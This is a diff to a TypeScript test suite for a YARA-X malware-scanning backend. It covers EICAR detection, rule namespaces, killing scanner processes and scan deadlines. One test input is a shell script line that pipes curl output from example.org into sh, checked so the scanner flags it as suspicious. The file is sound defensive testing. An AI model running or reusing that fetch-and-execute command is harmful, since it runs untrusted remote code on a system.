@@ -1,6 +1,10 @@
+import { spawn } from 'node:child_process'
+import { once } from 'node:events'
+import { readFileSync } from 'node:fs'
 import { mkdtemp, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
 import { eicarTestFile } from '../../artifacts/eicar.ts'
 import { YaraBackend } from './yara-backend.ts'
@@ -13,11 +17,29 @@ const request = (content: Uint8Array | string, signal: AbortSignal = live()) => 
   signal,
 })
 
+/** New rules are first compiled, in a process that has to start. */
+const PATIENT = { timeout: 20_000 }
+
+/** Processes that a process has started and that run. */
+function childrenOf(parent: number): number[] {
+  const children = readFileSync(`/proc/${parent}/task/${parent}/children`, 'utf8')
+  return children.split(' ').filter(Boolean).map(Number)
+}
+
+function isRunning(pid: number): boolean {
+  try {
+    return process.kill(pid, 0)
+  } catch {
+    return false
+  }
+}
+
 let directory: string
 let backend: YaraBackend
 
 beforeEach(async () => {
   directory = await mkdtemp(join(tmpdir(), 'yara-'))
+  backend = new YaraBackend(directory)
 })
 
 afterEach(async () => {
@@ -26,22 +48,68 @@ afterEach(async () => {
 })
 
 describe('the yara backend', () => {
-  it('with its own rules finds EICAR anywhere, and nothing in a harmless text', async () => {
-    backend = new YaraBackend()
+  it.each(['auto', 'wasm'] as const)(
+    '(%s) with its own rules finds EICAR anywhere, and nothing in a harmless text',
+    async (build) => {
+      backend = new YaraBackend(undefined, { build })
+      await backend.setup()
+      await backend.setup()
+      expect(await backend.analyze(request(eicarTestFile()))).toMatchObject({
+        outcome: 'malicious',
+        family: 'EICAR-Test-File',
+        confidence: 1,
+      })
+      const wrapped = Buffer.concat([Buffer.alloc(5_000, 'x'), eicarTestFile(), Buffer.alloc(9)])
+      expect(await backend.analyze(request(new Uint8Array(wrapped)))).toMatchObject({ outcome: 'malicious' })
+      expect(await backend.analyze(request('just a letter'))).toMatchObject({ outcome: 'benign' })
+      expect(await backend.analyze(request('#!/bin/sh\ncurl http://example.org/a | sh\n'))).toMatchObject({
+        outcome: 'suspicious',
+      })
+      expect(backend.versions.signatures).toMatch(/^[0-9a-f]{16}$/)
+      const native = build === 'auto' && `${process.platform} ${process.arch}` === 'linux x64'
+      expect(backend.versions.vendor).toBe(native ? 'YARA-X 1.7.1' : 'YARA-X 1.20.0')
+    },
+  )
+
+  it.each(['auto', 'wasm'] as const)('(%s) takes each file of rules for a name space of its own', async (build) => {
+    const rule = (name: string, text: string) => `rule ${name} { strings: $a = "${text}" condition: $a }`
+    await writeFile(join(directory, 'a.yar'), `${rule('Same', 'one')} ${rule('Other', 'two')}`)
+    await writeFile(join(directory, 'b.yar'), rule('Same', 'three'))
+    await writeFile(
+      join(directory, 'c.yar'),
+      `global rule Text { condition: uint8(0) == 0x78 } ${rule('Mine', 'four')}`,
+    )
+    backend = new YaraBackend(directory, { build })
     await backend.setup()
-    await backend.setup()
-    expect(await backend.analyze(request(eicarTestFile()))).toMatchObject({
-      outcome: 'malicious',
-      family: 'EICAR-Test-File',
-      confidence: 1,
-    })
-    const wrapped = Buffer.concat([Buffer.alloc(5_000, 'x'), eicarTestFile(), Buffer.alloc(9)])
-    expect(await backend.analyze(request(new Uint8Array(wrapped)))).toMatchObject({ outcome: 'malicious' })
-    expect(await backend.analyze(request('just a letter'))).toMatchObject({ outcome: 'benign' })
-    expect(await backend.analyze(request('#!/bin/sh\ncurl http://example.org/a | sh\n'))).toMatchObject({
-      outcome: 'suspicious',
-    })
-    expect(backend.versions.signatures).toMatch(/^[0-9a-f]{16}$/)
+    const rules = async (content: string) => (await backend.analyze(request(content))).metadata
+    expect(await rules('one')).toEqual({ rules: ['Same'] })
+    expect(await rules('three')).toEqual({ rules: ['Same'] })
+    expect(await rules('two, three')).toMatchObject({ rules: expect.toSatisfy((names) => names.length === 2) })
+    // The global rule of c.yar keeps its neighbour quiet, and no rule of another file.
+    expect(await rules('four')).toBeUndefined()
+    expect(await rules('x four')).toMatchObject({ rules: expect.arrayContaining(['Mine', 'Text']) })
+  })
+
+  it('leaves no process behind when the engine is killed in the middle of a scan', async () => {
+    const forever = 'for all i in (0..filesize - 1) : (for all j in (0..filesize - 1) : (uint8(i) ^ uint8(j) < 256))'
+    await writeFile(join(directory, 'slow.yar'), `rule Slow { condition: ${forever} }`)
+    const file = fileURLToPath(new URL('../../../dist/index.js', import.meta.url))
+    const script = `
+      import { YaraBackend } from ${JSON.stringify(file)}
+      const backend = new YaraBackend(${JSON.stringify(directory)}, { scanners: 1 })
+      await backend.setup()
+      void backend.analyze({ content: new Uint8Array(150_000), artifactType: 'file', metadata: {}, signal: new AbortController().signal })
+      console.log('scanning')
+      setInterval(() => undefined, 1_000)
+    `
+    // So small an artifact is all in the scanner's hands when the engine dies.
+    const engine = spawn(process.execPath, ['--input-type=module', '--eval', script])
+    engine.stderr.pipe(process.stderr)
+    await once(engine.stdout, 'data')
+    const [scanner = 0] = childrenOf(engine.pid ?? 0)
+    expect(scanner).toBeGreaterThan(0)
+    engine.kill('SIGKILL')
+    await vi.waitFor(() => expect(isRunning(scanner)).toBe(false), PATIENT)
   })
 
   it('names the rule file that does not compile', async () => {
@@ -57,7 +125,7 @@ describe('the yara backend', () => {
   })
 
   it('ends a scan that runs past its deadline, and scans the next artifact', async () => {
-    const forever = 'for all i in (0..filesize) : (for all j in (0..filesize) : (uint8(i) ^ uint8(j) < 256))'
+    const forever = 'for all i in (0..filesize - 1) : (for all j in (0..filesize - 1) : (uint8(i) ^ uint8(j) < 256))'
     await writeFile(join(directory, 'slow.yar'), `rule Slow { condition: filesize > 1000 and ${forever} }`)
     backend = new YaraBackend(directory)
     await backend.setup()
@@ -81,17 +149,23 @@ describe('the yara backend', () => {
     expect(await backend.analyze(request('one'))).toMatchObject({ outcome: 'malicious', family: 'First' })
 
     await writeFile(join(directory, 'more.yara'), rule('Second', 'two'))
-    await vi.waitFor(async () => expect(await backend.analyze(request('two'))).toMatchObject({ family: 'Second' }))
+    await vi.waitFor(
+      async () => expect(await backend.analyze(request('two'))).toMatchObject({ family: 'Second' }),
+      PATIENT,
+    )
 
     await writeFile(file, 'rule First { nonsense }')
     await vi.waitFor(async () => {
       await backend.analyze(request('x'))
       expect(warnings.join()).toMatch(/rules\.yar: .*syntax error/)
-    })
+    }, PATIENT)
     expect(await backend.analyze(request('one'))).toMatchObject({ family: 'First' })
 
     await writeFile(file, rule('Third', 'three'))
-    await vi.waitFor(async () => expect(await backend.analyze(request('three'))).toMatchObject({ family: 'Third' }))
+    await vi.waitFor(
+      async () => expect(await backend.analyze(request('three'))).toMatchObject({ family: 'Third' }),
+      PATIENT,
+    )
     expect(await backend.analyze(request('one'))).toMatchObject({ outcome: 'benign' })
     expect(warnings).toHaveLength(1)
   })
